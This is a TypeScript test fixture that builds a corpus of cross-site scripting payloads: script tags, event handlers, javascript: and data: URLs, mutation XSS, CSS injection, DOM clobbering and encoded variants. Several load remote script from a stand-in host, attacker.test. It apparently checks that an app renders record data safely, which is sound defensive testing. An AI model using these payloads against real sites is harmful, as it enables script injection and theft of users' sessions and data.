// A corpus of cross-site scripting payloads for record data. Each one, if it ever executes, calls
// the page's sentinel `__xss(id)` (or alert/confirm/prompt with its id); if it makes the browser
// load anything, the request goes to https://attacker.test/<id>. The ids (`XSS-001`…) also let the
// tests see where a payload ended up on screen as plain text.

/** Where a payload is meant to go: anywhere (HTML or text), or only where a URL is expected. */
export type PayloadKind = 'markup' | 'url';

export interface XssPayload {
  id: string;
  kind: PayloadKind;
  /** What the trick is, for the report when one gets through. */
  family: string;
  payload: string;
}

/** Origin every payload's remote loads go to; no such request may ever be made. */
export const ATTACKER_ORIGIN = 'https://attacker.test';

/** `__xss('ID')` in base64, for payloads that hide their call from naive filters. */
const b64 = (text: string): string => btoa(text);

/** HTML decimal entities for every character. */
const entities = (text: string): string => [...text].map((char) => `&#${char.codePointAt(0)};`).join('');

type Template = [family: string, kind: PayloadKind, make: (id: string) => string];

const call = (id: string) => `__xss('${id}')`;
const remote = (id: string, suffix = '') => `${ATTACKER_ORIGIN}/${id}${suffix}`;

const TEMPLATES: Template[] = [
  // --- script elements ------------------------------------------------------------------------
  ['script', 'markup', (id) => `<script>${call(id)}</script>`],
  ['script', 'markup', (id) => `<SCRIPT>${call(id)}</SCRIPT>`],
  ['script', 'markup', (id) => `<script src="${remote(id, '.js')}"></script>`],
  ['script', 'markup', (id) => `<script type="module">${call(id)}</script>`],
  ['script', 'markup', (id) => `"><script>${call(id)}</script>`],
  ['script', 'markup', (id) => `'><script>${call(id)}</script>`],
  ['script', 'markup', (id) => `</title><script>${call(id)}</script>`],
  ['script', 'markup', (id) => `</textarea><script>${call(id)}</script>`],
  ['script', 'markup', (id) => `<scr<script>ipt>${call(id)}</scr</script>ipt>`],
  ['script', 'markup', (id) => `<script>alert('${id}')</script><script>confirm('${id}')</script><script>prompt('${id}')</script>`],
  ['script', 'markup', (id) => `<script>eval(atob('${b64(call(id))}'))</script>`],
  ['script', 'markup', (id) => `<script/src=data:,${encodeURIComponent(call(id))}></script>`],
  // --- event-handler attributes ---------------------------------------------------------------
  ['event handler', 'markup', (id) => `<img src=x onerror="${call(id)}">`],
  ['event handler', 'markup', (id) => `<img src="x" onerror=${call(id)}>`],
  ['event handler', 'markup', (id) => `<IMG SRC=x OnErRoR=${call(id)}>`],
  ['event handler', 'markup', (id) => `<img src=x onerror="eval(atob('${b64(call(id))}'))">`],
  ['event handler', 'markup', (id) => `<img src=x onerror="${entities(call(id))}">`],
  ['event handler', 'markup', (id) => `<img src=x:x onerror=window['__x'+'ss']('${id}')>`],
  ['event handler', 'markup', (id) => `<img src=x onerror=import('${remote(id, '.js')}')>`],
  ['event handler', 'markup', (id) => `<img src=x onerror=alert('${id}')>`],
  ['event handler', 'markup', (id) => `<svg onload="${call(id)}">`],
  ['event handler', 'markup', (id) => `<svg/onload=${call(id)}>`],
  ['event handler', 'markup', (id) => `<body onload="${call(id)}">`],
  ['event handler', 'markup', (id) => `<details open ontoggle="${call(id)}"><summary>x</summary></details>`],
  ['event handler', 'markup', (id) => `<video><source onerror="${call(id)}"></video>`],
  ['event handler', 'markup', (id) => `<audio src=x onerror="${call(id)}"></audio>`],
  ['event handler', 'markup', (id) => `<input autofocus onfocus="${call(id)}">`],
  ['event handler', 'markup', (id) => `<select autofocus onfocus="${call(id)}"></select>`],
  ['event handler', 'markup', (id) => `<textarea autofocus onfocus="${call(id)}"></textarea>`],
  ['event handler', 'markup', (id) => `<div tabindex=0 autofocus onfocusin="${call(id)}" onmouseover="${call(id)}">hover</div>`],
  ['event handler', 'markup', (id) => `<marquee onstart="${call(id)}">x</marquee>`],
  ['event handler', 'markup', (id) => `<p onclick="${call(id)}">press</p>`],
  ['event handler', 'markup', (id) => `<button onclick="${call(id)}">Show details</button>`],
  ['event handler', 'markup', (id) => `<img src=x onerror&#x3D;${call(id)}>`],
  ['event handler', 'markup', (id) => `<img src=x onerror\t=\t${call(id)}>`],
  ['event handler', 'markup', (id) => `<style onload="${call(id)}"></style>`],
  ['event handler', 'markup', (id) => `<frameset onload="${call(id)}"></frameset>`],
  // --- attribute break-outs for places that put text in attributes ----------------------------
  ['attribute break-out', 'markup', (id) => `" onmouseover="${call(id)}" x="`],
  ['attribute break-out', 'markup', (id) => `' autofocus onfocus='${call(id)}' x='`],
  ['attribute break-out', 'markup', (id) => `" autofocus onfocus="${call(id)}`],
  ['attribute break-out', 'markup', (id) => `"><img src=x onerror=${call(id)}>`],
  // --- dangerous URLs -------------------------------------------------------------------------
  ['javascript: URL', 'url', (id) => `javascript:${call(id)}`],
  ['javascript: URL', 'url', (id) => `JaVaScRiPt:${call(id)}`],
  ['javascript: URL', 'url', (id) => ` \tjavascript:${call(id)}`],
  ['javascript: URL', 'url', (id) => `java\nscript:${call(id)}`],
  ['javascript: URL', 'url', (id) => `javascript://%0a${encodeURIComponent(call(id))}`],
  ['javascript: URL', 'url', (id) => `\u0001javascript:${call(id)}`],
  ['vbscript: URL', 'url', (id) => `vbscript:msgbox("${id}")`],
  ['data: URL', 'url', (id) => `data:text/html,<script>parent.${call(id)}</script>`],
  ['data: URL', 'url', (id) => `data:text/html;base64,${b64(`<script>parent.${call(id)}</script>`)}`],
  ['data: URL', 'url', (id) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${call(id)}"/>`],
  ['remote URL', 'url', (id) => remote(id)],
  ['remote URL', 'url', (id) => `//attacker.test/${id}`],
  ['javascript: URL', 'markup', (id) => `<a href="javascript:${call(id)}">Open the report</a>`],
  ['javascript: URL', 'markup', (id) => `<a href="JaVaScRiPt:${call(id)}">Open</a>`],
  ['javascript: URL', 'markup', (id) => `<a href="jav&#x09;ascript:${call(id)}">Open</a>`],
  ['javascript: URL', 'markup', (id) => `<a href="${entities('javascript:')}${call(id)}">Open</a>`],
  ['javascript: URL', 'markup', (id) => `<a href=" javascript:${call(id)}">Open</a>`],
  ['javascript: URL', 'markup', (id) => `<a href="java&NewLine;script:${call(id)}">Open</a>`],
  ['javascript: URL', 'markup', (id) => `<a href="&Tab;javascript:${call(id)}">Open</a>`],
  ['javascript: URL', 'markup', (id) => `<a href="java\u200bscript:${call(id)}">Open</a>`],
  ['vbscript: URL', 'markup', (id) => `<a href="vbscript:msgbox('${id}')">Open</a>`],
  ['data: URL', 'markup', (id) => `<a href="data:text/html,<script>${call(id)}</script>">Open</a>`],
  ['data: URL', 'markup', (id) => `<a href="data:text/html;base64,${b64(`<script>opener.${call(id)}</script>`)}">Open</a>`],
  ['form action', 'markup', (id) => `<form action="javascript:${call(id)}"><button>Show details</button></form>`],
  ['form action', 'markup', (id) => `<form><button formaction="javascript:${call(id)}">Show details</button></form>`],
  ['form action', 'markup', (id) => `<isindex action="javascript:${call(id)}" type="image">`],
  ['frames', 'markup', (id) => `<iframe src="javascript:parent.${call(id)}"></iframe>`],
  ['frames', 'markup', (id) => `<iframe src="${remote(id)}"></iframe>`],
  ['frames', 'markup', (id) => `<iframe src="data:text/html,<script>parent.${call(id)}</script>"></iframe>`],
  ['plugins', 'markup', (id) => `<object data="javascript:${call(id)}"></object>`],
  ['plugins', 'markup', (id) => `<embed src="javascript:${call(id)}">`],
  ['plugins', 'markup', (id) => `<object data="${remote(id, '.swf')}" type="application/x-shockwave-flash"></object>`],
  ['plugins', 'markup', (id) => `<applet code="x" codebase="${remote(id)}"></applet>`],
  // --- srcdoc ---------------------------------------------------------------------------------
  ['srcdoc', 'markup', (id) => `<iframe srcdoc="<script>parent.${call(id)}</script>"></iframe>`],
  ['srcdoc', 'markup', (id) => `<iframe srcdoc="&lt;img src=x onerror=parent.${call(id)}&gt;"></iframe>`],
  // --- SVG and MathML -------------------------------------------------------------------------
  ['svg', 'markup', (id) => `<svg><script>${call(id)}</script></svg>`],
  ['svg', 'markup', (id) => `<svg><a><animate attributeName="href" values="javascript:${call(id)}"/><text x="20" y="20">Open</text></a></svg>`],
  ['svg', 'markup', (id) => `<svg><set attributeName="onload" to="${call(id)}"/></svg>`],
  ['svg', 'markup', (id) => `<svg><foreignObject><img src=x onerror="${call(id)}"></foreignObject></svg>`],
  ['svg', 'markup', (id) => `<svg><image href="${remote(id, '.png')}"/></svg>`],
  ['svg', 'markup', (id) => `<svg><a xlink:href="javascript:${call(id)}"><text y="20">Open</text></a></svg>`],
  ['svg', 'markup', (id) => `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${call(id)}"/></svg>`)}#x"/></svg>`],
  ['svg', 'markup', (id) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${call(id)}'/>">`],
  ['mathml', 'markup', (id) => `<math href="javascript:${call(id)}">Open</math>`],
  ['mathml', 'markup', (id) => `<math><maction actiontype="statusline" xlink:href="javascript:${call(id)}">Open</maction></math>`],
  // --- mutation XSS (parser differentials, namespace confusion) -------------------------------
  ['mutation', 'markup', (id) => `<noscript><p title="</noscript><img src=x onerror=${call(id)}>"></noscript>`],
  ['mutation', 'markup', (id) => `<math><mtext><table><mglyph><style><img src=x onerror=${call(id)}></style></mglyph></table></mtext></math>`],
  ['mutation', 'markup', (id) => `<svg></p><style><a id="</style><img src=1 onerror=${call(id)}>">`],
  ['mutation', 'markup', (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call(id)}>`],
  ['mutation', 'markup', (id) => `<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${call(id)} src=1>">`],
  ['mutation', 'markup', (id) => `<template><script>${call(id)}</script><img src=x onerror=${call(id)}></template>`],
  ['mutation', 'markup', (id) => `<xmp><img src=x onerror=${call(id)}></xmp>`],
  ['mutation', 'markup', (id) => `<style><img src=x onerror=${call(id)}></style>`],
  ['mutation', 'markup', (id) => `<svg><style><img src=x onerror=${call(id)}></style></svg>`],
  ['mutation', 'markup', (id) => `<table><caption><svg><title></caption><img src=x onerror=${call(id)}></title></svg></table>`],
  ['mutation', 'markup', (id) => `<![CDATA[<img src=x onerror=${call(id)}>]]>`],
  ['mutation', 'markup', (id) => `<!--><img src=x onerror=${call(id)}>-->`],
  ['mutation', 'markup', (id) => `<? <img src=x onerror=${call(id)}> ?>`],
  // --- remote loads ---------------------------------------------------------------------------
  ['remote load', 'markup', (id) => `<img src="${remote(id, '.png')}" alt="scan">`],
  ['remote load', 'markup', (id) => `<img srcset="${remote(id, '.png')} 1x" alt="scan">`],
  ['remote load', 'markup', (id) => `<picture><source srcset="${remote(id, '.png')}"><img alt="scan"></picture>`],
  ['remote load', 'markup', (id) => `<video poster="${remote(id, '.png')}"></video>`],
  ['remote load', 'markup', (id) => `<link rel="stylesheet" href="${remote(id, '.css')}">`],
  ['remote load', 'markup', (id) => `<link rel="prefetch" href="${remote(id)}">`],
  ['remote load', 'markup', (id) => `<table background="${remote(id, '.png')}"><tr><td>x</td></tr></table>`],
  ['remote load', 'markup', (id) => `<input type="image" src="${remote(id, '.png')}">`],
  ['remote load', 'markup', (id) => `<a ping="${remote(id)}" href="#top">Top</a>`],
  ['remote load', 'markup', (id) => `<img src="//attacker.test/${id}.png">`],
  // --- CSS injection --------------------------------------------------------------------------
  ['css', 'markup', (id) => `<style>@import '${remote(id, '.css')}';</style>`],
  ['css', 'markup', (id) => `<style>*{background:url('${remote(id, '.png')}')}</style>`],
  ['css', 'markup', (id) => `<style>:host{display:none!important}</style><p>${id}</p>`],
  ['css', 'markup', (id) => `<div style="background:url('${remote(id, '.png')}')">styled</div>`],
  ['css', 'markup', (id) => `<div style="background-image:url(&quot;${remote(id, '.png')}&quot;)">styled</div>`],
  ['css', 'markup', (id) => `<div style="width:expression(${call(id)})">styled</div>`],
  ['css', 'markup', (id) => `<div style="behavior:url(${remote(id, '.htc')})">styled</div>`],
  ['css', 'markup', (id) => `<p style="position:fixed;inset:0;z-index:99999;background:#d5281b">${id} overlay</p>`],
  ['css', 'markup', (id) => `red;background:url(${remote(id, '.png')})`],
  ['css', 'markup', (id) => `</style><img src=x onerror=${call(id)}>`],
  // --- navigation and document-level elements -------------------------------------------------
  ['meta refresh', 'markup', (id) => `<meta http-equiv="refresh" content="0;url=javascript:${call(id)}">`],
  ['meta refresh', 'markup', (id) => `<meta http-equiv="refresh" content="0;url=${remote(id)}">`],
  ['meta refresh', 'markup', (id) => `<meta http-equiv="Set-Cookie" content="session=${id}">`],
  ['base href', 'markup', (id) => `<base href="${remote(id)}/">`],
  ['base href', 'markup', (id) => `<base href="javascript:${call(id)}//">`],
  // --- DOM clobbering -------------------------------------------------------------------------
  ['clobbering', 'markup', (id) => `<form id="__xss" name="${id}"></form>`],
  ['clobbering', 'markup', (id) => `<img name="__xss" alt="${id}">`],
  ['clobbering', 'markup', (id) => `<a id="__xss"></a><a id="__xss" name="x" href="${remote(id)}">x</a>`],
  ['clobbering', 'markup', (id) => `<form name="getElementById"></form><img name="cookie" alt="${id}">`],
  ['clobbering', 'markup', (id) => `<form id="document"><input name="cookie" value="${id}"></form>`],
  ['clobbering', 'markup', (id) => `<iframe name="__xss"></iframe><embed name="alert"><object id="confirm" name="${id}"></object>`],
  ['clobbering', 'markup', (id) => `<a id="defaultView" name="attributes" href="${remote(id)}">${id}</a>`],
  // --- encoded and disguised ------------------------------------------------------------------
  ['encoded', 'markup', (id) => `&lt;img src=x onerror=${call(id)}&gt;`],
  ['encoded', 'markup', (id) => `&#60;script&#62;${call(id)}&#60;/script&#62;`],
  ['encoded', 'markup', (id) => `\\u003cscript\\u003e${call(id)}\\u003c/script\\u003e`],
  ['encoded', 'markup', (id) => `%3Cscript%3E${call(id)}%3C%2Fscript%3E`],
  ['encoded', 'markup', (id) => `＜script＞${call(id)}＜/script＞`],
  ['encoded', 'markup', (id) => `<scr\u0000ipt>${call(id)}</scr\u0000ipt>`],
  ['encoded', 'markup', (id) => `<img src=x onerror=\u2028${call(id)}\u2029>`],
  ['encoded', 'markup', (id) => `\u202e<img src=x onerror=${call(id)}>\u202c`],
  ['encoded', 'markup', (id) => `<img src=x onerror=&#x5f;&#x5f;xss('${id}')>`],
  ['encoded', 'markup', (id) => `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${call(id)}">Open</a>`],
  // --- template syntaxes (Lit, JavaScript, other frameworks) ----------------------------------
  ['template', 'markup', (id) => `\${${call(id)}}`],
  ['template', 'markup', (id) => `\`\${${call(id)}}\``],
  ['template', 'markup', (id) => `<!--?lit$123456789$--><img src=x onerror=${call(id)}>`],
  ['template', 'markup', (id) => `lit$123456789$<!--?lit$123456789$-->${id}`],
  ['template', 'markup', (id) => `<?lit$987654321$>${id}<!---->`],
  ['template', 'markup', (id) => `{{constructor.constructor('${call(id)}')()}}`],
  ['template', 'markup', (id) => `<%= ${call(id)} %>#{${call(id)}}`],
  ['template', 'markup', (id) => `<div x-init="${call(id)}" v-html="'<img src=x onerror=${call(id)}>'">${id}</div>`],
  // --- plain text that must stay exactly as written -------------------------------------------
  ['text', 'markup', (id) => `${id} O'Brien & "Sons" <Pharmacy> ± 5 µg — naïve café 🩺`],
  ['text', 'markup', (id) => `${id} ${'Line one. '.repeat(400)}`],
];

/** The corpus: every template with its own id. */
export const xssPayloads: readonly XssPayload[] = TEMPLATES.map(([family, kind, make], index) => {
  const id = `XSS-${String(index + 1).padStart(3, '0')}`;
  return { id, kind, family, payload: make(id) };
});

/** Payloads that belong in HTML or text fields. */
export const markupPayloads: readonly XssPayload[] = xssPayloads.filter((p) => p.kind === 'markup');

/** Payloads that belong where a URL is expected (attachment URLs, links). */
export const urlPayloads: readonly XssPayload[] = xssPayloads.filter((p) => p.kind === 'url');

/** Finds the payload ids mentioned in a piece of text. */
export function payloadIdsIn(text: string): Set<string> {
  return new Set(text.match(/XSS-\d{3}/g) ?? []);
}
